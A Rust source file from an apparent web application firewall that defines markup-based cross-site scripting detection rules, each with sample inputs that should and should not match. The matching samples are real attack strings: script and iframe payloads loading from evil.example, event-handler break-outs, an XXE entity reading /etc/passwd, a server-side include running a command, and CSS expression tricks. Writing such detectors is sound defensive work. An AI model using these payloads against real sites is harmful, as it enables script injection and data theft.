//! Rules about markup: what each conclusion of the HTML tokenizer weighs, with its proofs.

use waf_shared::catalog::Leaf;

use super::judged;
use crate::lang::html::markup::Sign;
use crate::rule::{Rule, STRONG};

/// The rule for a conclusion.
pub(super) fn rule(sign: Sign) -> &'static Rule {
    match sign {
        Sign::ScriptElement => &SCRIPT_ELEMENT,
        Sign::ScriptEnd => &SCRIPT_END,
        Sign::Handler => &HANDLER,
        Sign::HandlerBreak => &HANDLER_BREAK,
        Sign::HandlerText => &HANDLER_TEXT,
        Sign::DangerousAttribute => &DANGEROUS_ATTRIBUTE,
        Sign::AttributeBreak => &ATTRIBUTE_BREAK,
        Sign::ScriptUrl => &super::javascript::SCRIPT_URL,
        Sign::FillerUrl => &super::javascript::FILLER_URL,
        Sign::BareScriptUrl => &super::javascript::BARE_SCRIPT_URL,
        Sign::DataUrl => &super::javascript::DATA_URL,
        Sign::DangerousElement => &DANGEROUS_ELEMENT,
        Sign::SuspectElement => &SUSPECT_ELEMENT,
        Sign::LegacyElement => &LEGACY_ELEMENT,
        Sign::MarkupBreak => &MARKUP_BREAK,
        Sign::SpacedElement => &SPACED_ELEMENT,
        Sign::ServerInclude => &SERVER_INCLUDE,
        Sign::RemoteSchema => &REMOTE_SCHEMA,
        Sign::StyleElement => &STYLE_ELEMENT,
        Sign::StyleTrick => &STYLE_TRICK,
        Sign::StyleScript => &STYLE_SCRIPT,
    }
}

pub(super) static SCRIPT_ELEMENT: Rule = judged(
    "cross-site-scripting-script-tags/element",
    Leaf::CrossSiteScriptingScriptTags,
    STRONG,
    "A script element is opened.",
    &[
        "<script>alert(1)</script>",
        "x</title><ScRiPt src=//evil.example/x.js",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>",
        "<scr\0ipt >go()",
    ],
    &[
        "the script < 5 lines",
        "<p>Hello <strong>world</strong></p>",
        "a script tag is no toy",
        "List<Scripts> scripts",
    ],
);

pub(super) static SCRIPT_END: Rule = judged(
    "cross-site-scripting-script-tags/end",
    Leaf::CrossSiteScriptingScriptTags,
    4,
    "A script element of the page is closed.",
    &["</script>", "';</SCRIPT ><b>", "x</svg:script>"],
    &["</p>", "</div></section>", "and/script"],
);

pub(super) static HANDLER: Rule = judged(
    "cross-site-scripting-event-handlers/in-tag",
    Leaf::CrossSiteScriptingEventHandlers,
    STRONG,
    "A tag carries an event handler.",
    &[
        "<img src=x onerror=alert(1)>",
        "<svg/onload=go()",
        "<a title='x'ONmouseover=\"top.x()\">",
        "<x onwibble=alert`1`>",
        "<b\x0conclick\x0d=\x0ax()>",
    ],
    &[
        "<p>once=one</p>",
        "<a href=\"https://example.com/\" title=\"online\">x</a>",
        "<item only=\"1\" once=\"true\" one='a'/>",
        "if a <b then onclick is fine",
    ],
);

pub(super) static HANDLER_BREAK: Rule = judged(
    "cross-site-scripting-event-handlers/break-out",
    Leaf::CrossSiteScriptingEventHandlers,
    STRONG,
    "An event handler follows what ends an attribute of the page.",
    &[
        "\" onmouseover=alert(1) x=\"",
        "'onfocus='x()' autofocus='",
        "x` onload=go() `",
        "\"//Ony=\"\"//onfocus=confirm(2)>",
        "/onerror=alert(1)",
    ],
    &[
        "onclick = something",
        "don't use onclick = x here",
        "the \"onload\" attribute",
        "\"online=1\"",
        "\"once=\"",
    ],
);

pub(super) static HANDLER_TEXT: Rule = judged(
    "cross-site-scripting-event-handlers/text",
    Leaf::CrossSiteScriptingEventHandlers,
    3,
    "An event handler with code stands in text.",
    &["onclick=\"doSomething()\" is bad style", "use onload=start() instead", "onerror=x(1)>"],
    &["onclick = something", "based on=x()", "sign on = required"],
);

pub(super) static DANGEROUS_ATTRIBUTE: Rule = judged(
    "cross-site-scripting-html-attributes/in-tag",
    Leaf::CrossSiteScriptingHtmlAttributes,
    STRONG,
    "A tag carries an attribute that brings a document, sends a form elsewhere or loads what old browsers run.",
    &["<iframe srcdoc='x'>", "<button formaction=//evil.example>", "<img dynsrc=x>", "<table datasrc=#x>"],
    &[
        "<img src=\"https://example.com/a.png\" alt>",
        "<use xlink:href=\"#icon\"/><image xlink:href=\"data:image/png;base64,AAAA\"/>",
        "<a href=\"/form/action\">x</a>",
    ],
);

pub(super) static ATTRIBUTE_BREAK: Rule = judged(
    "cross-site-scripting-html-attributes/break-out",
    Leaf::CrossSiteScriptingHtmlAttributes,
    STRONG,
    "Such an attribute follows what ends an attribute of the page.",
    &["'formaction=//evil.example", "\" srcdoc=\"<b>", "x\" dynsrc=x"],
    &["formaction = x", "srcdoc=", "the \"srcdoc\" attribute"],
);

pub(super) static EXTERNAL_ENTITY: Rule = Rule {
    matcher: crate::rule::RuleMatcher::Pattern {
        regex: r"!entity\s+(?:%\s*)?[^\s>]+\s+(?:system|public)\b",
        literals: &["!entity"],
    },
    ..judged(
        "cross-site-scripting-html-attributes/external-entity",
        Leaf::CrossSiteScriptingHtmlAttributes,
        STRONG,
        "An entity is declared by reference to somewhere else.",
        &[
            "<!ENTITY % x SYSTEM 'http://evil.example/'>",
            "<!DOCTYPE r [<!ENTITY f SYSTEM \"file:///etc/passwd\">]>",
            "!ENTITY % bar PUBLIC 'a' 'b'",
        ],
        &["<!ENTITY copy \"(c)\">", "the entity system", "<!DOCTYPE html>"],
    )
};

pub(super) static DEFAULT_ATTRIBUTE: Rule = Rule {
    matcher: crate::rule::RuleMatcher::Pattern {
        regex: r#"\bon[a-z]{3,32}\s{1,16}cdata\s{1,16}(?:#fixed\s{1,16})?["']"#,
        literals: &["cdata"],
    },
    ..judged(
        "cross-site-scripting-event-handlers/default-attribute",
        Leaf::CrossSiteScriptingEventHandlers,
        STRONG,
        "A document type gives elements an event handler.",
        &[
            "<!DOCTYPE x [<!ATTLIST img onerror CDATA \"go()\">]>",
            "onload CDATA 'x'",
            "<!ATTLIST a b CDATA 'c' onclick\tCDATA #FIXED \"x\">",
        ],
        &["<![CDATA[on sale]]>", "<!ATTLIST a href CDATA #IMPLIED>", "once CDATA is used"],
    )
};

pub(super) static REMOTE_SCHEMA: Rule = judged(
    "cross-site-scripting-html-attributes/remote-schema",
    Leaf::CrossSiteScriptingHtmlAttributes,
    STRONG,
    "An XML document in a value fetches its schema, or a part of itself, from elsewhere.",
    &[
        "<a xmlns=\"http://a.b/\" xsi:schemaLocation=\"http://a.b/ http://c.evil.example/a.xsd\">x</a>",
        "<d xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://evil.example/x\"/></d>",
        "<q xsi:schemaLocation='urn:x//one http://two.example/q.xsd'/>",
    ],
    &[
        "<project xsi:schemaLocation=\"http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd\">",
        "<xi:include href=\"chapter1.xml\"/>",
        "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>News</title></feed>",
    ],
);

pub(super) static DANGEROUS_ELEMENT: Rule = judged(
    "cross-site-scripting-html-injection-markers/element",
    Leaf::CrossSiteScriptingHtmlInjectionMarkers,
    STRONG,
    "An element is opened that loads foreign content or changes how the page works.",
    &[
        "<iframe src=//evil.example>",
        "<object data=x>",
        "<meta http-equiv=refresh content=0>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=x",
    ],
    &[
        "<base> <meta name=a>",
        "Map<String, List<Object>> x; Vec<Frame> y",
        "<meta charset=\"utf-8\">",
        "<link href=\"https://example.com/\" rel=\"alternate\"/>",
        "<img src=\"https://example.com/a.png\" alt>",
        "<blockquote><em>x</em></blockquote>",
        "an <email> link",
    ],
);

pub(super) static SUSPECT_ELEMENT: Rule = judged(
    "cross-site-scripting-html-injection-markers/foreign-element",
    Leaf::CrossSiteScriptingHtmlInjectionMarkers,
    3,
    "An element is opened that brings another language or is seldom written by hand.",
    &["<svg>", "<math><mi>", "<marquee>x"],
    &["<b>svg</b>", "<p>", "<3 math"],
);

pub(super) static MARKUP_BREAK: Rule = judged(
    "cross-site-scripting-html-injection-markers/break-out",
    Leaf::CrossSiteScriptingHtmlInjectionMarkers,
    3,
    "Markup follows what ends a tag, a comment or a text element of the page.",
    &["\"><b>x", "--><i>", "</textarea><p>", "x' /><u>"],
    &[
        "<a href=\"x\"><b>y</b></a>",
        "a > b <i>c</i>",
        "<!-- old --> <a id=x></a>",
        "<!DOCTYPE html PUBLIC \"x\"><html>",
        "</p><p>",
    ],
);

pub(super) static SPACED_ELEMENT: Rule = judged(
    "cross-site-scripting-html-injection-markers/spaced",
    Leaf::CrossSiteScriptingHtmlInjectionMarkers,
    STRONG,
    "A dangerous element is spelled with gaps.",
    &["<f o r m", "< s c r i p t >", "x< script >alert(1)"],
    &["a < b c d", "<b r", "x < scripts"],
);

pub(super) static SERVER_INCLUDE: Rule = judged(
    "cross-site-scripting-html-injection-markers/server-include",
    Leaf::CrossSiteScriptingHtmlInjectionMarkers,
    STRONG,
    "A directive of server-side or edge-side includes.",
    &[
        "<!--#exec cmd=\"ls\"-->",
        "<!--#echo var=\"x\" -->",
        "\"--><!--#SET var=a value=b-->",
        "<esi:include src=\"http://evil.example/\"/>",
    ],
    &["<!-- # a comment -->", "<!--#region-->", "<!-- echo -->", "<esi:nothing>"],
);

pub(super) static LEGACY_ELEMENT: Rule = judged(
    "cross-site-scripting-internet-explorer/element",
    Leaf::CrossSiteScriptingInternetExplorer,
    STRONG,
    "An element that old browsers run or load code from.",
    &["<v:vmlframe src=x>", "<applet code=x>", "<?import namespace=t implementation=x>", "<bgsound src=x>"],
    &["<?xml version=\"1.0\"?>", "<?php", "<import from=\"x\"/>"],
);

pub(super) static STYLE_ELEMENT: Rule = judged(
    "cross-site-scripting-internet-explorer/style-element",
    Leaf::CrossSiteScriptingInternetExplorer,
    1,
    "A style element is opened.",
    &["<style>", "<STYLE type=text/css>", "</title><style x"],
    &["<span style=\"color:red\">x</span>", "style>", "<styled>"],
);

pub(super) static STYLE_TRICK: Rule = judged(
    "cross-site-scripting-internet-explorer/style-trick",
    Leaf::CrossSiteScriptingInternetExplorer,
    STRONG,
    "A style element imports a sheet or hides its words.",
    &["<style>@import'//evil.example/x.css'", "<STYLE>li{list:\"\\javascript:x\"}</STYLE>", "<style>=\\x"],
    &["<style>p{color:red}</style>", "<style>i:before{content:\"\\f101\"}</style>", "@import 'base';"],
);

pub(super) static STYLE_SCRIPT: Rule = judged(
    "cross-site-scripting-internet-explorer/style-script",
    Leaf::CrossSiteScriptingInternetExplorer,
    STRONG,
    "Style that runs code.",
    &[
        "width:expression(alert(1))",
        "xss:ex/**/pre\\ssion(x)",
        "background:url( 'javascript:x()')",
        "-moz-binding:url(x.xml#a)",
        "behavior: url(x.htc)",
    ],
    &[
        "background:url(https://example.com/a.png)",
        "a lambda expression(s)",
        "scroll-behavior: smooth",
        "v\\:* {behavior:url(#default#VML);}",
        "url(data:image/png;base64,AAAA)",
    ],
);
